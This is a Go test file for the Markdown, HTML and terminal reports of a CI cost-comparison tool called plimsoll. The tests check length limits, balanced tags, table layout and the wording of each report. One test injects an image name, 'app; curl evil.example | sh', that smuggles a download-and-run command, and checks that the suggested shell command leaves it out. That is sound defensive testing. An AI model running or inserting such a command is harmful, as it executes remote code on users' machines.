package report_test

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/plimsoll-ci/plimsoll/internal/record"
	"github.com/plimsoll-ci/plimsoll/internal/report"
)

func TestMarkdownStructure(t *testing.T) {
	for name, c := range map[string]record.Comparison{
		"fail": failing(), "pass": passing(), "hostile": hostile(), "several": severalServices(), "many": many(200), "nothing": comparison(),
		"grown": grown(), "swapped": swapped(), "hostile image": hostileContents(), "many grown": manyGrown(40),
	} {
		t.Run(name, func(t *testing.T) { sound(t, string(report.Markdown(c, pull())), report.DefaultLimit) })
	}
}

// Whatever the limit, the comment keeps it, and no element stays open.
func TestMarkdownKeepsAnyLimit(t *testing.T) {
	several := []record.Comparison{many(12), hostile(), severalServices(), grown(), hostileContents(), manyGrown(12)}
	rapid.Check(t, func(rt *rapid.T) {
		o := pull()
		o.Limit = rapid.IntRange(4096, 40_000).Draw(rt, "limit")
		c := rapid.SampledFrom(several).Draw(rt, "comparison")
		sound(t, string(report.Markdown(c, o)), o.Limit)
	})
}

// sound checks what GitHub would otherwise render wrongly: size, encoding,
// balanced folds, tables with equal rows and an empty line before them.
func sound(t *testing.T, md string, limit int) {
	t.Helper()
	if len(md) > limit {
		t.Errorf("%d bytes, limit %d", len(md), limit)
	}
	if !utf8.ValidString(md) {
		t.Error("not UTF-8")
	}
	open, before, pipes := 0, "", 0
	for line := range strings.Lines(md) {
		line = strings.TrimSuffix(line, "\n")
		open += strings.Count(line, "<details>") - strings.Count(line, "</details>")
		if open < 0 || open > 1 {
			t.Fatalf("details nested %d deep at %q", open, line)
		}
		if strings.HasPrefix(line, "| ") {
			n := strings.Count(line, "|")
			if pipes == 0 && before != "" {
				t.Errorf("table not after an empty line: %q, %q", before, line)
			}
			if pipes != 0 && n != pipes {
				t.Errorf("row of %d pipes in a table of %d: %q", n, pipes, line)
			}
			pipes = n
		} else {
			pipes = 0
		}
		before = line
	}
	if open != 0 {
		t.Errorf("%d details stay open", open)
	}
}

var ownTags = regexp.MustCompile(`</?(?:details|summary|code|sub)>|<br>`)

// Nothing foreign becomes markup: the only tags are our own, and no mention or
// reference stands outside of code.
func TestMarkdownHoldsNoForeignMarkup(t *testing.T) {
	noForeignMarkup(t, string(report.Markdown(hostile(), pull())))
}

func TestMarkdownFirstLines(t *testing.T) {
	o := pull()
	if got := string(report.Markdown(failing(), o)); !strings.HasPrefix(got, "### ❌ This pull request makes `api` $86 a month dearer (+21 %), and ") {
		t.Errorf("comment begins %q", got[:120])
	}
	if got := string(report.Markdown(failing(), report.Options{})); !strings.HasPrefix(got, "### ❌ This change makes `api` $86") {
		t.Errorf("report.md begins %q", got[:120])
	}
}

// What was left out is said, and where it is.
func TestMarkdownSaysWhatItLeftOut(t *testing.T) {
	md := string(report.Markdown(many(200), pull()))
	if !strings.Contains(md, "Left out for length: ") || !strings.Contains(md, "All of it is in [job summary](https://github.com/o/r/actions/runs/1).") {
		t.Errorf("comment ends %q", md[len(md)-600:])
	}
	o := pull()
	o.Limit = report.SummaryLimit
	if md := string(report.Markdown(many(200), o)); strings.Contains(md, "Left out") {
		t.Error("a summary of 200 services is cut, though there is room")
	}
}

func TestAServiceThatIsMissingHasNoImagesAndNoMethod(t *testing.T) {
	c := comparison(record.Service{Name: "shop", Verdict: record.Missing, Warnings: []string{"no comparison of it was found"}})
	page, err := report.HTML(c, report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for medium, got := range map[string]string{"text": string(report.Terminal(c, report.Options{})), "Markdown": string(report.Markdown(c, report.Options{})), "HTML": string(page)} {
		if !strings.Contains(strings.ToLower(got), "nothing was measured") {
			t.Errorf("%s does not say that nothing was measured:\n%s", medium, got)
		}
		for _, wrong := range []string{"exact metrics", "numbers of an image", "**Images**", "  base", `class="images"`} {
			if strings.Contains(got, wrong) {
				t.Errorf("%s of what is not there has %q:\n%s", medium, wrong, got)
			}
		}
	}
}

// A pull request that changes nothing of note gets no tables of failures and
// no advice.
func TestMarkdownIsShortWhenGreen(t *testing.T) {
	md := string(report.Markdown(passing(), pull()))
	open, _, _ := strings.Cut(md, "<details>")
	if lines := strings.Count(open, "\n"); lines > 8 {
		t.Errorf("%d lines above the fold:\n%s", lines, open)
	}
	if strings.Contains(md, "What to do") {
		t.Error("advice though nothing failed")
	}
}

// Where many services share the comment, their tables are shorter.
func TestMarkdownShortensTablesForMany(t *testing.T) {
	for n, want := range map[int]string{3: "… and 8 more packages, +256 kB.", 4: "… and 13 more packages, +416 kB."} {
		if md := string(report.Markdown(manyGrown(n), pull())); strings.Count(md, want) != n {
			t.Errorf("%d of %d services say %q", strings.Count(md, want), n, want)
		}
	}
}

// A command that people paste into a shell is never made from a tricky name.
func TestAdviceQuotesNoTrickyNames(t *testing.T) {
	c := failing()
	c.Services[0].Head.Image = "app; curl evil.example | sh"
	if md := string(report.Markdown(c, pull())); strings.Contains(md, "plimsoll compare") {
		t.Error("the command to repeat holds a tricky name")
	}
}
